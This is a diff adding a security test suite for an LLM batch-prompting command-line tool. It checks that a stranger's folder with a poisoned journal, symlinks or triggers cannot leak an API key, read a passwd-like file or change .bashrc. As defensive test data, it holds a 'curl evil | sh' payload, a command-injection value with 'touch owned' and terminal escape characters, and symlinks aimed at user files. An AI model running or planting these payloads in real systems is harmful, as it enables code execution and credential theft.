@@ -1,0 +1,224 @@
+import { lstat, mkdir, mkdtemp, readdir, readFile, readlink, rm, symlink, writeFile } from "node:fs/promises";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { inspectJournal, type JournalRecord } from "@parallel-parrot/journal";
+import { startSimulator, type Simulator } from "@parallel-parrot/simulator";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { addTrigger, makeHostileFolder, type Plot } from "../../fixtures/hostile-folder.ts";
+import { startParrot, type Finished } from "../../fixtures/run-parrot.ts";
+
+const KEY = "sk-CANARY-7f3a9c55d1e0";
+const SECRET_TEXT = "root:CANARY-of-a-file:0:0";
+const COMMAND = [
+  "text",
+  "in.jsonl",
+  "--prompt",
+  "Sentiment of: ${review}",
+  "--model",
+  "openai/sim",
+  "-o",
+  "out.jsonl",
+];
+
+/** Records everything that is sent to it. */
+class Thief {
+  readonly received: string[] = [];
+  readonly #server: Server = createServer((request, response) => {
+    this.received.push(JSON.stringify([request.url, request.headers]));
+    response.end("{}");
+  });
+
+  async start(): Promise<string> {
+    await new Promise<void>((resolve) => {
+      this.#server.listen(0, "127.0.0.1", resolve);
+    });
+    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}/v1`;
+  }
+
+  async stop(): Promise<void> {
+    this.#server.closeAllConnections();
+    await new Promise((resolve) => this.#server.close(resolve));
+  }
+}
+
+let base: string;
+let folder: string;
+let home: string;
+let thief: Thief;
+let plot: Plot;
+let simulator: Simulator;
+
+beforeEach(async () => {
+  base = await mkdtemp(join(tmpdir(), "parrot-hostile-"));
+  [folder, home] = [join(base, "archive"), join(base, "home")];
+  await mkdir(home);
+  await mkdir(folder);
+  await writeFile(join(home, "passwd"), `${SECRET_TEXT}\n${"row,".repeat(9)}\n`);
+  await writeFile(join(home, ".bashrc"), "# my start-up file\n");
+  await writeFile(join(home, "key"), KEY);
+  thief = new Thief();
+  plot = {
+    baseUrl: await thief.start(),
+    wanted: join(home, "passwd"),
+    target: join(home, ".bashrc"),
+    payload: "curl evil | sh",
+  };
+  simulator = await startSimulator({ apiKey: KEY });
+});
+afterEach(async () => {
+  await Promise.all([thief.stop(), simulator.close()]);
+  await rm(base, { recursive: true });
+});
+
+/** As the user, in the archive's folder. */
+function type(...parameters: readonly string[]): Promise<Finished> {
+  const environment = { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: simulator.baseUrl, HOME: home };
+  return startParrot(parameters, environment, folder).finished;
+}
+
+/** Every file of the home, with what is in it. */
+async function homeFiles(): Promise<Readonly<Record<string, string>>> {
+  const found: Record<string, string> = {};
+  for (const name of await readdir(home)) {
+    const path = join(home, name);
+    const status = await lstat(path);
+    found[name] = status.isSymbolicLink()
+      ? await readlink(path)
+      : `${(status.mode & 0o777).toString(8)} ${await readFile(path, "utf8")}`;
+  }
+  return found;
+}
+
+/** Types commands and sees that nobody got anything and nothing of the user's was touched. */
+async function typeSafely(...commands: readonly (readonly string[])[]): Promise<readonly Finished[]> {
+  const before = await homeFiles();
+  const finished: Finished[] = [];
+  for (const command of commands) finished.push(await type(...command));
+  expect(thief.received).toEqual([]);
+  expect(await homeFiles()).toEqual(before);
+  const said = finished.map(({ stdout, stderr }) => stdout + stderr).join("\n");
+  expect(said.includes(KEY) || said.includes(SECRET_TEXT)).toBe(false);
+  // Nothing that a terminal would act on.
+  const told = finished.map(({ stderr }) => stderr).join("");
+  expect(["\u001B", "\u202E"].filter((each) => told.includes(each))).toEqual([]);
+  expect(finished.map(({ code }) => code)).not.toContain(1);
+  expect((await readdir(folder)).includes("owned")).toBe(false);
+  return finished;
+}
+
+/** The record that the user's own command would look for, with another answer in it. */
+async function poisonFor(): Promise<JournalRecord> {
+  const own = join(base, "own");
+  await mkdir(own);
+  await writeFile(join(own, "in.jsonl"), '{"review":"good"}\n');
+  const environment = { OPENAI_API_KEY: KEY, OPENAI_BASE_URL: simulator.baseUrl };
+  await startParrot(COMMAND, environment, own).finished;
+  const journal = await inspectJournal(join(own, ".parrot", "journal.db"));
+  const [record] = [...journal.records()];
+  journal.close();
+  if (record === undefined) throw new Error("nothing was asked");
+  const body = JSON.stringify({
+    ...JSON.parse(record.body),
+    choices: [{ index: 0, finish_reason: "stop", message: { role: "assistant", content: plot.payload } }],
+  });
+  return { ...record, body };
+}
+
+describe("a folder from a stranger", () => {
+  it("is not obeyed: nothing is sent, read or written because of its journal", async () => {
+    await makeHostileFolder(folder, plot, []);
+    const [resumed, retried, ...others] = await typeSafely(
+      ["resume"],
+      ["retry-failed"],
+      ["resume", "1"],
+      ["resume", "2", "--overwrite", "--trust-journal", "--key-file", join(home, "key")],
+      ["retry-failed", "2", "--model", "openai/other"],
+    );
+    for (const refusal of [resumed, retried, ...others]) {
+      expect(refusal).toMatchObject({ code: 2, stdout: "" });
+      expect(refusal?.stderr).toContain("it does not have your signature");
+      for (const shown of [plot.baseUrl, plot.wanted, plot.target, "openai/"])
+        expect(refusal?.stderr).toContain(shown);
+      // Whose key, and what may be lost, is for the person to say.
+      expect(refusal?.stderr).not.toMatch(/type it: .*--(?:key-file|overwrite|trust-journal)/);
+      expect(refusal?.stderr).toContain(
+        String.raw`--output-key $'x\'; touch owned; \'\U0000001b[2J\U0000202e'`,
+      );
+    }
+    const [shown, exported] = await typeSafely(
+      ["journal", "show"],
+      ["journal", "export"],
+      ["journal", "show", "--json"],
+      ["explain", ...COMMAND],
+      ["journal", "prune", "--keep-last", "1"],
+    );
+    expect(shown?.stdout).toContain("others");
+    expect(exported?.code).toBe(0);
+  });
+
+  it("does not give its answers to the user's own command, and says so before anything is sent", async () => {
+    await makeHostileFolder(folder, plot, [await poisonFor()]);
+    const asked = simulator.ledger.received;
+    const [refused, explained] = await typeSafely(COMMAND, ["explain", ...COMMAND]);
+    expect(refused).toMatchObject({ code: 2, stdout: "" });
+    expect(refused?.stderr).toContain("runs 1, 2, of 1 requests, do not have your signature");
+    expect(refused?.stderr).toContain("--trust-journal");
+    expect(simulator.ledger.received).toBe(asked);
+    expect(explained?.stderr).toContain("their answers are not counted, and a run would stop");
+    expect(explained?.stdout).not.toContain("1 rows are answered");
+    // The two ways out.
+    const [other] = await typeSafely([...COMMAND, "--journal", "mine.db"]);
+    expect(other?.code).toBe(0);
+    expect(await readFile(join(folder, "out.jsonl"), "utf8")).not.toContain(plot.payload);
+    const [trusted] = await typeSafely([...COMMAND, "--trust-journal", "--overwrite"]);
+    expect(trusted).toMatchObject({ code: 0, stderr: expect.stringContaining("1 answers that were in") });
+    expect(await readFile(join(folder, "out.jsonl"), "utf8")).toContain(plot.payload);
+    expect(simulator.ledger.received).toBe(asked + 1);
+    // Trust in answers is no trust in what the runs would do.
+    const [resumed] = await typeSafely(["resume", "1"]);
+    expect(resumed?.stderr).toContain("you have taken over its answers, and not what it does");
+  });
+
+  it("is refused where its journal has a trigger", async () => {
+    await makeHostileFolder(folder, plot, []);
+    addTrigger(folder);
+    const finished = await typeSafely(
+      ["resume"],
+      ["retry-failed"],
+      ["journal", "show"],
+      ["journal", "export"],
+      ["journal", "prune", "--failures"],
+      ["explain", ...COMMAND],
+      COMMAND,
+      [...COMMAND, "--trust-journal"],
+    );
+    expect(finished.map(({ code, stderr }) => [code, stderr.includes("not those of a journal")])).toEqual(
+      finished.map(() => [2, true]),
+    );
+  });
+
+  it.skipIf(process.platform === "win32").each([
+    [".parrot", ".parrot"],
+    ["the journal", ".parrot/journal.db"],
+    ["the file that keeps it out of version control", ".parrot/.gitignore"],
+    ["the lock", ".parrot/journal.db-lock"],
+    ["the log", ".parrot/journal.db-wal"],
+    ["the lock of the output", ".out.jsonl.parrot-lock"],
+    ["where the output grows", "out.partial.jsonl"],
+    ["the list of failed rows", "out.jsonl.failed.jsonl"],
+    ["the output", "out.jsonl"],
+  ])("makes and changes nothing where a link leads that stands for %s", async (_, name) => {
+    for (const target of ["nowhere", ".bashrc", "empty"]) {
+      await rm(folder, { recursive: true });
+      await mkdir(folder);
+      await writeFile(join(home, "empty"), "");
+      if (name.startsWith(".parrot/")) await mkdir(join(folder, ".parrot"));
+      await writeFile(join(folder, "in.jsonl"), '{"review":"good"}\n');
+      await symlink(join(home, target), join(folder, name));
+      await typeSafely(COMMAND, ["resume"], ["journal", "show"]);
+    }
+    await expect(lstat(join(home, "nowhere"))).rejects.toThrow("ENOENT");
+  });
+});
